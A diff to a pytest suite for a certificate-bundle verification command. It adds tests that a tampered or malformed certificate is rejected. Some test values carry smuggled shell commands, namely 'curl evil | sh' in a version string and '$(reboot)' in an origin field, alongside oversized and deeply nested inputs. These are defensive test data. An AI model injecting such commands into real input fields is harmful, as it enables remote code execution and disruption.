@@ -1,5 +1,6 @@
 """`verify`: three verdicts apart, every member's tampering caught and named, and unsafe input refused."""
 
+import base64
 import gzip
 import json
 import zipfile
@@ -7,15 +8,16 @@ from collections.abc import Callable, Mapping
 from io import BytesIO
 from pathlib import Path
 
+import msgspec
 import pytest
 from click.testing import CliRunner, Result
 from fencepost.conformance.certificate import bundle as bundles
 from fencepost.conformance.certificate.bundle import ENVELOPE, MEMBERS, SIGNED, Bundle, NotABundle, packed, read_bundle
 from fencepost.conformance.certificate.certificate import Issue, as_page, certificate
-from fencepost.conformance.certificate.envelope import seal, statement
+from fencepost.conformance.certificate.envelope import PAYLOAD_TYPE, pre_authentication, seal, statement
 from fencepost.conformance.certificate.keys import make_keys, read_public_key, read_signing_key
 from fencepost.conformance.certificate.replaying import Transcript, TranscriptDiffers
-from fencepost.conformance.certificate.verification import consistency, signature, written
+from fencepost.conformance.certificate.verification import consistency, re_execution, signature, unsettled, written
 from fencepost.conformance.commands import main
 from fencepost.reports.model import report_from_json
 
@@ -51,6 +53,7 @@ def _signed_anew(members: Mapping[str, bytes], folder: Path) -> Bundle:
         catalogue_digest=told["catalogue"]["sha256"],
         environment=told["environment"],
         artifacts={},
+        origin=told["suite"]["origin"],
     )
     told = certificate(report, issue)
     new = {**members, "certificate.json": written(told), "certificate.md": as_page(told, report).encode()}
@@ -68,11 +71,9 @@ def _transcript_with(members: dict[str, bytes], change: Callable[[list[dict[str,
 def test_a_whole_bundle_holds_and_what_was_not_asked_is_said(folder: Path) -> None:
     result = _run("verify", folder / "b.zip", "--key", folder / "key.pub")
     assert result.exit_code == 0
-    assert [line.split("  ")[0] for line in result.stdout.splitlines()[1:]] == [
-        "signature valid",
-        "transcript consistent",
-        "re-executed",
-    ]
+    for row in ("signature valid        holds", "transcript consistent  holds", "re-executed            not asked"):
+        assert row in result.stdout
+    assert "level      partial" in result.stdout
     assert "not asked" in result.stdout
 
 
@@ -85,17 +86,18 @@ def test_an_unpacked_bundle_is_a_bundle_too(folder: Path, tmp_path: Path) -> Non
 def test_a_subject_asked_again_comes_to_the_same(folder: Path) -> None:
     result = _run("verify", folder / "b.zip", "--key", folder / "key.pub", "--re-run", ENFORCER, "--json")
     assert result.exit_code == 0
-    assert [one["verdict"] for one in json.loads(result.stdout)] == [
-        "signature valid",
-        "transcript consistent",
-        "re-executed",
-    ]
+    told = json.loads(result.stdout)
+    assert [one["verdict"] for one in told["findings"]] == ["signature valid", "transcript consistent", "re-executed"]
+    assert told["certified"]["effort"] == "quick"
+    assert told["certified"]["key"] == read_public_key(folder / "key.pub").id
+    seed = str(told["certified"]["seed"])
+    assert seed not in told["findings"][2]["unchecked"][0], "the verifier's seed is another than the signer's"
 
 
 def test_another_subject_does_not_stand_for_the_one_that_was_certified(folder: Path) -> None:
     subject = "library:fencepost.conformance.peers:MinimalVault2018"
     result = _run("verify", folder / "b.zip", "--key", folder / "key.pub", "--re-run", subject, "--json")
-    signed, consistent, executed = json.loads(result.stdout)
+    signed, consistent, executed = json.loads(result.stdout)["findings"]
     assert result.exit_code == 1
     assert signed["holds"]
     assert consistent["holds"]
@@ -292,3 +294,136 @@ def test_a_report_of_another_schema_version_is_told_as_such(folder: Path, versio
     told = {**json.loads(members["report.json"]), "schemaVersion": version}
     found = consistency(Bundle(members={**members, "report.json": json.dumps(told).encode()}))
     assert any(reason.startswith("report.json") for reason in found.against)
+
+
+# -- what enemies write ------------------------------------------------------------------------------------------------
+
+
+def _lying(folder: Path, change: Callable[[dict[str, object]], None]) -> tuple[str, ...]:
+    """What is against a certificate that its signer has altered; all other members say the same."""
+    members = _members(folder)
+    told = json.loads(members["certificate.json"])
+    change(told)
+    report = report_from_json(members["report.json"])
+    new = {name: members[name] for name in SIGNED} | {"certificate.json": written(told)}
+    new["certificate.md"] = as_page(told, report).encode()
+    envelope = seal(statement(new, report, told), read_signing_key(folder / "key"))
+    return consistency(Bundle(members={**new, ENVELOPE: envelope})).against
+
+
+def _set(part: str, name: str, value: object) -> Callable[[dict[str, object]], None]:
+    def change(told: dict[str, object]) -> None:
+        inner = told[part] if part else told
+        assert isinstance(inner, dict)
+        inner[name] = value
+
+    return change
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        (_set("suite", "version", "99.0; curl evil | sh"), "is no version"),
+        (_set("suite", "sha256", "0" * 64), "is installed here, and its digest is another"),
+        (_set("catalogue", "sha256", "0" * 64), "is installed here, and its digest is another"),
+        (_set("suite", "sha256", "zero"), "is no SHA-256 in hexadecimal digits"),
+        (_set("suite", "origin", "commit:$(reboot)"), "is neither a commit nor a digest"),
+        (_set("", "issued", "yesterday-ish"), "is no date and time in UTC that has passed"),
+        (_set("", "issued", "2999-01-01T00:00:00+00:00"), "is no date and time in UTC that has passed"),
+        (_set("asked", "seed", 7), "asked"),
+        (_set("asked", "seedFrom", "luck"), "chooses no seed"),
+        (_set("asked", "nonce", "another"), "the digest gives"),
+    ],
+)
+def test_what_a_lying_signer_writes_is_checked_by_form_and_against_the_suite(
+    folder: Path, change: Callable[[dict[str, object]], None], reason: str
+) -> None:
+    assert any(reason in one for one in _lying(folder, change))
+
+
+def test_clauses_in_another_order_are_no_report_of_the_run(folder: Path) -> None:
+    members = _members(folder)
+    told = json.loads(members["report.json"])
+    told["clauses"].reverse()
+    text = json.dumps(told, indent=2).encode()
+    found = consistency(_signed_anew({**members, "report.json": text}, folder))
+    assert any("in another order" in reason for reason in found.against)
+
+
+def test_what_the_bundle_cannot_prove_is_said(folder: Path) -> None:
+    (first, *_) = consistency(read_bundle(folder / "b.zip")).unchecked
+    assert "the signer's own words" in first
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [b"not JSON", b"", b"\xff\xfe", b"[" * 200_000, b'{"a": ' + b"1" * 5_000 + b"}", b'{"_type": "other"}', b"[]"],
+    ids=["no JSON", "empty", "no UTF-8", "deep", "a long integer", "another type", "a list"],
+)
+def test_a_signed_payload_that_is_no_statement_is_no_valid_signature(folder: Path, payload: bytes) -> None:
+    key = read_signing_key(folder / "key")
+    signed = base64.b64encode(key.sign(pre_authentication(PAYLOAD_TYPE, payload))).decode()
+    content = {"payloadType": PAYLOAD_TYPE, "payload": base64.b64encode(payload).decode()}
+    envelope = json.dumps({**content, "signatures": [{"keyid": key.public.id, "sig": signed}]}, indent=2) + "\n"
+    bundle = Bundle(members={**_members(folder), ENVELOPE: envelope.encode()})
+    assert not signature(bundle, read_public_key(folder / "key.pub")).holds
+
+
+def test_an_envelope_nested_200_000_deep_is_no_envelope(folder: Path) -> None:
+    bundle = Bundle(members={**_members(folder), ENVELOPE: b"[" * 200_000})
+    assert not signature(bundle, read_public_key(folder / "key.pub")).holds
+    assert any(ENVELOPE in reason for reason in consistency(bundle).against)
+
+
+def test_without_a_valid_signature_nothing_else_is_opened(folder: Path, tmp_path: Path) -> None:
+    members = {**_members(folder), "transcript.ndjson.gz": b"\x00" * 4_000_000, "report.json": b"[" * 1_000_000}
+    (tmp_path / "b.zip").write_bytes(packed(members))
+    result = _run("verify", tmp_path / "b.zip", "--key", folder / "other.pub")
+    assert result.exit_code == 1
+    assert "not opened: without a valid signature nothing else is read" in result.stdout
+    insisting = _run("verify", tmp_path / "b.zip", "--key", folder / "other.pub", "--unsigned")
+    assert insisting.exit_code == 1
+    assert "report.json" in insisting.stdout
+
+
+def test_a_zip_whose_directory_is_huge_is_refused_before_it_is_read(folder: Path, tmp_path: Path) -> None:
+    with zipfile.ZipFile(tmp_path / "b.zip", "w") as archive:
+        for number in range(2_000):
+            archive.writestr(f"{number:050}", b"")
+    result = _run("verify", tmp_path / "b.zip", "--key", folder / "key.pub")
+    assert result.exit_code == 2
+    assert "a bundle has five members" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("options", "status"),
+    [
+        (("--require-level", "partial"), 0),
+        (("--require-level", "core"), 1),
+        (("--require-effort", "quick"), 0),
+        (("--require-effort", "standard"), 1),
+    ],
+)
+def test_a_level_and_an_effort_can_be_required(folder: Path, options: tuple[str, ...], status: int) -> None:
+    assert _run("verify", folder / "b.zip", "--key", folder / "key.pub", *options).exit_code == status
+
+
+def test_an_artifact_can_be_required(folder: Path, tmp_path: Path) -> None:
+    (tmp_path / "other.bin").write_bytes(b"other")
+    result = _run("verify", folder / "b.zip", "--key", folder / "key.pub", "--artifact", tmp_path / "other.bin")
+    assert result.exit_code == 1
+    assert "no artifact of the certificate has its SHA-256" in result.stdout
+
+
+def test_a_clause_that_is_vacuous_at_one_seed_is_told_by_the_next(folder: Path) -> None:
+    stated = report_from_json(_members(folder)["report.json"])
+    row = next(row for row in stated.clauses if row.verdict == "pass")
+    vacuous = tuple(
+        msgspec.structs.replace(one, verdict="vacuous") if one.id == row.id else one for one in stated.clauses
+    )
+    empty = msgspec.structs.replace(stated, clauses=vacuous, exit_status=3)
+    assert unsettled(stated, [empty]) == (row.id,)
+    assert unsettled(stated, [empty, stated]) == ()
+    assert re_execution(stated, [empty, stated]).holds
+    (_, left) = re_execution(stated, [empty]).unchecked
+    assert left.startswith(f"cannot say: {row.id}")
